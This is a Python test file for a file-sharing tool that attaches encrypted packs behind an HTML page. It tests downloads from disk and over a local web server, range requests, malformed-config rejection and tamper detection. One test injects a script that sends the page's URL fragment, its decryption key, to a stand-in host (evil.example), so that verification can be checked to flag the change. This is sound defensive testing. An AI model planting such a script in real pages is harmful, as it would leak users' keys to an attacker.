"""Pages with their packs behind them: written, read from a disk and over the web, and how they may lie."""

from __future__ import annotations

import contextlib
import hashlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from megadesk.errors import DecodeError, MegaDeskError
from megadesk.share.opening import open_address
from megadesk.share.page import PageFile, fill, read_config
from megadesk.share.verify import verify_page
from tests.unit.share.pages import PAGE, packs_of, vector


def attached_page(found: dict[str, Any], record: bytes | None = None) -> bytes:
    """The vector as one file, its packs behind the page."""
    import base64

    packs = [packs_of(found)[pack] for pack in found["record"]["packs"]]
    head, tail = fill(
        PAGE, base64.b64decode(found["object"]) if record is None else record, attached=list(map(len, packs))
    )
    return head + tail + b"".join(packs)


def written(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in folder.rglob("*")
        if path.is_file()
    }


def expected(found: dict[str, Any]) -> set[str]:
    return {content["sha256"] for content in found["files"].values()}


class Web:
    """A web server with one page on it. ``parts``: whether it gives out ranges."""

    def __init__(self, page: bytes, *, parts: bool) -> None:
        self.sent = 0
        web = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
                pass

            def do_GET(self) -> None:
                asked = self.headers.get("Range") if parts else None
                first, _, last = (asked or f"bytes=0-{len(page)}").removeprefix("bytes=").partition("-")
                data = page[int(first) : int(last) + 1]
                self.send_response(206 if asked else 200)
                self.send_header("Content-Length", str(len(data)))
                if asked:
                    self.send_header("Content-Range", f"bytes {first}-{int(first) + len(data) - 1}/{len(page)}")
                self.end_headers()
                with contextlib.suppress(ConnectionError):
                    for at in range(0, len(data), 65536):
                        self.wfile.write(data[at : at + 65536])
                        web.sent += len(data[at : at + 65536])

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05})
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/gift.html"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.mark.parametrize("name", ["file_two_segments", "folder"])
def test_from_a_disk(name: str, tmp_path: Path) -> None:
    found = vector(name)
    path = tmp_path / "gift.html"
    path.write_bytes(attached_page(found))
    with contextlib.closing(open_address(f"{path}#{found['token']}")) as link:
        assert not link.download(str(tmp_path / "out")).failures
    assert set(written(tmp_path / "out").values()) == expected(found)


@pytest.mark.parametrize("parts", [True, False])
def test_over_the_web(parts: bool, tmp_path: Path) -> None:
    """By pieces where the server gives them out, whole where it does not."""
    found = vector("folder")
    with contextlib.closing(Web(attached_page(found), parts=parts)) as web:
        with contextlib.closing(open_address(f"{web.url}#{found['token']}")) as link:
            assert not link.download(str(tmp_path / "out")).failures
    assert set(written(tmp_path / "out").values()) == expected(found)


def test_only_what_is_needed_is_fetched() -> None:
    """Of a large file, the page and the piece that is read; its hash without what is behind it."""
    found = vector("file")
    page = attached_page(found)
    padding = 64 << 20
    sizes = [len(packs_of(found)[pack]) for pack in found["record"]["packs"]]
    page = page.replace(b"]}", b",%d,%d]}" % (padding // 2, padding // 2), 1)
    at = page.index(b'"at":') + 5
    length = len(page) - sum(sizes)
    page = page[:at] + b"%15d" % length + page[at + 15 :] + bytes(padding)
    with pytest.raises(DecodeError):
        read_config(b'{"attached":{"at":5,"sizes":[%d]},"record":""}' % padding)
    with contextlib.closing(Web(page, parts=True)) as web:
        with contextlib.closing(open_address(f"{web.url}#{found['token']}")) as link:
            assert hashlib.sha256(link.read(0)).hexdigest() in expected(found)
        verdict = verify_page(web.url)
        assert verdict.sha256 == hashlib.sha256(PAGE).hexdigest()
        assert web.sent < padding // 2


@pytest.mark.parametrize("how", ["plain", "attached"])
def test_a_changed_page_is_told(how: str) -> None:
    """One that sends the key away, say: by its hash, wherever the change is, whatever was filled in."""
    page = attached_page(vector("file")) if how == "attached" else PAGE
    changed = page.replace(b"</title>", b"</title><script>fetch('//evil.example/' + location.hash)</script>", 1)
    for served, right in ((page, True), (changed, False), (b"<h1>another page</h1>", False)):
        with contextlib.closing(Web(served, parts=False)) as web:
            assert verify_page(web.url).right is right


@pytest.mark.parametrize("change", ["cut", "longer", "altered"])
def test_nothing_wrong_gets_a_name(change: str, tmp_path: Path) -> None:
    found = vector("file_two_segments")
    page = bytearray(attached_page(found))
    if change == "cut":
        del page[-1:]
    elif change == "longer":
        page += b"x"
    else:
        page[-len(next(iter(packs_of(found).values()))) + 70] ^= 1
    path = tmp_path / "gift.html"
    path.write_bytes(page)
    out = tmp_path / "out"
    out.mkdir()
    try:
        with contextlib.closing(open_address(f"{path}#{found['token']}")) as link:
            assert link.download(str(out)).failures
    except DecodeError:
        assert change != "altered"
    assert written(out) == {}


@pytest.mark.parametrize(
    "text",
    [
        '{"attached":{"at":1,"sizes":[1]}}',
        '{"record":"","attached":{"at":0,"sizes":[1]}}',
        '{"record":"","attached":{"at":true,"sizes":[1]}}',
        '{"record":"","attached":{"at":1,"sizes":[]}}',
        '{"record":"","attached":{"at":1,"sizes":[0]}}',
        '{"record":"","attached":{"at":1,"sizes":[-1]}}',
        '{"record":"","attached":{"at":1,"sizes":[1e3]}}',
        '{"record":"","attached":{"at":1,"sizes":[99999999999]}}',
        '{"record":"","attached":{"at":1}}',
        '{"record":"","attached":{"at":1,"sizes":[1],"more":1}}',
        '{"record":"","inline":true,"attached":{"at":1,"sizes":[1]}}',
        '{"record":"","server":"https://x/","attached":{"at":1,"sizes":[1]}}',
        '{"record":"","attached":[1]}',
    ],
)
def test_what_no_page_says(text: str) -> None:
    with pytest.raises(DecodeError):
        read_config(text.encode())


@given(st.lists(st.integers(1, 1 << 24), min_size=1, max_size=50), st.binary(max_size=200))
def test_the_page_knows_its_own_length(sizes: list[int], record: bytes) -> None:
    head, tail = fill(PAGE, record, attached=sizes)
    config = read_config(head[head.index(b'"megadesk-link">') + 16 : -len(b"</script>")])
    assert config.attached_at == len(head) + len(tail)
    assert list(config.attached) == sizes
    assert config.record == record


@given(at=st.integers(1, 10**7), sizes=st.lists(st.integers(1, 1 << 25), min_size=1, max_size=4))
def test_a_page_that_lies_about_itself(at: int, sizes: list[int], tmp_path_factory: pytest.TempPathFactory) -> None:
    """Any claim of where packs are: refused, or what is read does not open."""
    found = vector("file")
    page = attached_page(found)
    start = page.index(b'"attached":') + len(b'"attached":')
    end = page.index(b"}", start) + 1
    claim = json.dumps({"at": at, "sizes": sizes}).encode()
    path = tmp_path_factory.mktemp("lies") / "gift.html"
    path.write_bytes(page[:start] + claim + page[end:])
    try:
        with contextlib.closing(PageFile(str(path), whole=False)) as opened:
            opened.read(0, 0, 64)
        with contextlib.closing(open_address(f"{path}#{found['token']}")) as link:
            link.read(0)
    except MegaDeskError:
        return
    raise AssertionError("it opened")
